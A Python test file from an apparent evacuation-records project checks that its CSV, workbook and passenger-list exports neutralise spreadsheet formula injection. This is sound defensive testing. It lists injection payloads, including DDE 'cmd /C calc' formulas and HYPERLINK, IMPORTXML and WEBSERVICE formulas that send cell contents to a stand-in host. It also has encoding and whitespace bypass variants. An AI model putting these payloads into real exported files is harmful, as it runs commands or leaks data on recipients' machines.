"""T26: a name that a spreadsheet would run. It comes in as a name and leaves as a text.

Whoever opens our file in a spreadsheet must not run what a stranger wrote on a form: a formula, a
link that carries the row away, a command by DDE. Every module of ours that writes a table stands in
``WRITERS`` with a way to put an attack into each of its cells, headers among them; a module that
writes one and does not stand there fails. Coming in, an attack is the text that it is, a workbook's
formula its stored value, and neither is ever computed.
"""

import ast
import csv
import functools
import io
from collections.abc import Callable, Iterator
from pathlib import Path

import msgspec
import openpyxl
import pytest

import muster
from muster.adapters.formats import corrections, counterpart, fresh_book, second_reader, tables
from muster.adapters.formats.cells import begins_a_formula, unguarded
from muster.adapters.formats.export import written
from muster.adapters.formats.limits import Limits
from muster.adapters.formats.paxlst import reader as paxlst_in
from muster.adapters.formats.paxlst import writer as paxlst_out
from muster.adapters.formats.paxlst.lists import Head, PassengerLists, Role, Transport, Traveller
from muster.adapters.formats.pfif import reader as pfif_in
from muster.adapters.formats.pfif import writer as pfif_out
from muster.adapters.formats.problems import ExportUnfaithful
from muster.adapters.formats.proposal import propose
from muster.adapters.formats.reading import read
from muster.adapters.formats.report.hxl import hxl
from muster.adapters.formats.spelling import in_latin
from muster.doors.cli.closing import named_in
from muster.doors.cli.commands import closing
from muster.ground.people.ids import spell
from muster.journey.figures.report import Report
from muster.site.export.people import Table
from tests.formats.lists import LIST, RECEIVED, as_csv, as_workbook, table_here
from tests.reports.evacuation import evacuation

ATTACKS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1;"open")',
    '=IMPORTXML(CONCAT("http://x.example/?";A1);"//a")',
    '=WEBSERVICE("http://x.example/"&B1)',
    '=DDE("cmd";"/C calc";"x")',
    "DDEAUTO\t=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1;1)",
    "'=1+1",
    "''=1+1",
    '";=1+1;"',
    '"\r\n=1+1',
    "a\r\n=1+1",
    ",=1+1",
    ";=1+1",
    "%0A=1+1",
)
CARRIED = [one for one in ATTACKS if not set(one) & set("\x00\r\n")]
"""Attacks without what ends a line or a text: what a reader may find in one cell of a list."""


def _corrections(attack: str) -> bytes:
    """The rows that come back of a list whose header and cells are attacks."""
    good = [[name, "F", "x"] for name in ("Adela", "Bero", "Cilla", "Dano", "Edda")]
    table = table_here(as_csv([["Name", "Sex", f"{attack}x"], *good, ["Kyra", "both", attack]]))
    reading = read(table, propose(table).mapping, LIST, RECEIVED)
    return corrections.corrections(table, reading.rejected)


@functools.cache
def _plain() -> Report:
    return evacuation().report()


def _report(attack: str) -> bytes:
    return hxl(msgspec.structs.replace(_plain(), operation=attack, site=attack))


def _people(attack: str) -> bytes:
    return Table((attack, "b"), ((attack, attack), ("", attack)), (attack, attack)).csv(hxl=True)


WRITERS: dict[str, Callable[[str], bytes]] = {
    "muster.adapters.formats.corrections": _corrections,
    "muster.adapters.formats.counterpart": lambda attack: counterpart.as_csv(
        counterpart.Sheet(tokens=(attack,))
    ),
    "muster.adapters.formats.report.hxl": _report,
    "muster.doors.cli.commands.closing": lambda attack: closing.form([attack]),
    "muster.site.export.people": _people,
}
"""Every module that writes CSV, with a file of it in which ``attack`` stands wherever it can."""

WORKBOOKS = {"muster.site.export.making"}
"""Every module that writes a workbook: each cell a text, and read again before it leaves."""

INVENTED = {
    "muster.doors.drill.lists",
    "muster.doors.drill.mending",
    "muster.doors.drill.messy.tables",
}
"""Modules of a drill that write what strangers send us, faults and all; nobody is sent these."""

_LIBRARIES = {"openpyxl", "xlsxwriter", "xlwt", "odf", "pandas", "pyexcel", "docx"}
"""Nothing of ours writes a table by one of these; a drill makes a stranger's workbook with one."""


def calls(source: str) -> Iterator[tuple[str, str]]:
    """Yield (module, function) of what a module of ours imports or calls to write tables."""
    tree = ast.parse(source)
    for node in ast.walk(tree):
        match node:
            case ast.ImportFrom(module=str(module), names=names):
                yield from ((module, one.name) for one in names)
            case ast.Import(names=names):
                yield from ((one.name, "") for one in names)
            case ast.Attribute(value=ast.Name(id=module), attr=name):
                yield (module, name)
            case _:
                pass


def modules() -> Iterator[tuple[str, set[tuple[str, str]]]]:
    """Yield each module of ours with what it imports and calls."""
    folder = Path(muster.__file__).parent
    for path in folder.rglob("*.py"):
        name = ".".join(("muster", *path.relative_to(folder).with_suffix("").parts))
        yield name, set(calls(path.read_text("utf-8")))


def test_no_module_writes_a_table_that_is_not_held_against_the_attacks() -> None:
    raw, through, books, foreign = set(), set(), set(), set()
    for name, found in modules():
        if {("csv", "writer"), ("csv", "DictWriter")} & found:
            raw.add(name)
        if ("muster.adapters.formats.export", "written") in found:
            through.add(name)
        if ("fresh_book", "written") in found:
            books.add(name)
        if {module.partition(".")[0] for module, _ in found} & _LIBRARIES:
            foreign.add(name)
    assert raw == {"muster.adapters.formats.export", *INVENTED}
    assert through == {*WRITERS}
    assert books == WORKBOOKS
    assert foreign <= INVENTED


@pytest.mark.parametrize("writer", WRITERS)
def test_no_cell_of_a_table_that_leaves_is_a_formula(writer: str) -> None:
    for attack in CARRIED if writer.endswith("corrections") else ATTACKS:
        rows = [*csv.reader(io.StringIO(WRITERS[writer](attack).decode("utf-8-sig"), newline=""))]
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if begins_a_formula(cell)], attack
        assert any(attack.strip() in unguarded(cell) or not attack.strip() for cell in cells)


def test_a_workbook_holds_every_attack_as_a_text() -> None:
    rows = [(attack, f"{attack}, {attack}") for attack in ATTACKS if "\x00" not in attack]
    content = fresh_book.written(rows)
    second_reader.compare(content, rows)
    (sheet,) = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    assert sheet.title == "Export"
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_second_reader_lets_no_formula_out(attack: str) -> None:
    whole = written(("name",), [(attack,)])
    second_reader.compare_csv(whole, [("name",), (attack,)])
    if begins_a_formula(attack):
        text = io.StringIO(newline="")
        csv.writer(text).writerows([("name",), (attack,)])
        with pytest.raises(ExportUnfaithful):
            second_reader.compare_csv(text.getvalue().encode(), [("name",), (attack,)])


def test_what_comes_in_is_the_text_that_it_is_and_leaves_guarded() -> None:
    """In as a name by CSV, out as CSV, in again: one text all the way."""
    for attack in CARRIED:
        rows = [["Adela", "F"], [f"{attack} Example", "F"], ["Bero", "M"], ["Cilla", "F"]]
        table = table_here(as_csv([["Name", "Sex"], *rows]))
        names = _names(table)
        assert names[1].replace(" Example", "").strip() in " ".join(attack.split())
        again = table_here(Table(("Name", "Sex"), tuple((name, "F") for name in names)).csv())
        assert _names(again) == names, attack


def _names(table: tables.Table) -> list[str]:
    rows = read(table, propose(table).mapping, LIST, RECEIVED).rows
    return [row.name.full for row in rows]


def test_a_formula_of_a_workbook_is_never_computed_nor_kept() -> None:
    rows = [["Name", "Sex"], ["Adela", "F"], ['=HYPERLINK("http://x.example";"Bero")', "M"]]
    table = table_here(as_workbook(rows, title="=1+1"))
    read_in = [row.name.full for row in read(table, propose(table).mapping, LIST, RECEIVED).rows]
    assert not [name for name in read_in if "HYPERLINK" in name or "x.example" in name]


@pytest.mark.parametrize("attack", CARRIED)
def test_pfif_carries_an_attack_as_a_text_between_two_tags(attack: str) -> None:
    person = {"person_record_id": "a.example/1", "full_name": attack, "source_date": "2021-08-01"}
    document = pfif_out.write([person], [])
    (found,) = pfif_in.read(document, Limits()).persons
    assert found["full_name"] == attack
    assert document.count(b"<pfif:full_name>") == 1


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_carrier_is_told_letters_and_no_attack(attack: str) -> None:
    """Names on a passenger list are A to Z and blanks: no sign that a program could run."""
    head = Head("D.02B", "1", "", "US", "THEM", "210826 1200", "US")
    name = in_latin(f"{attack} Example")
    traveller = Traveller(Role.PASSENGER, name, ())
    raw = paxlst_out.write(PassengerLists((head,), (Transport("EX1", "", ()),), (traveller,)))
    (found,) = paxlst_in.read(raw, Limits()).travellers
    assert found.surname == name
    assert not set(name) - set("ABCDEFGHIJKLMNOPQRSTUVWXYZ ")


def test_a_form_that_a_spreadsheet_saved_is_read_without_its_guards(tmp_path: Path) -> None:
    person = spell(bytes(range(16)))
    form = tmp_path / "form.csv"
    form.write_bytes(closing.form([person]).replace(b",,", b",other,'+93 700"))
    (one,) = named_in(form, "--left")
    assert one.last_known == "+93 700"
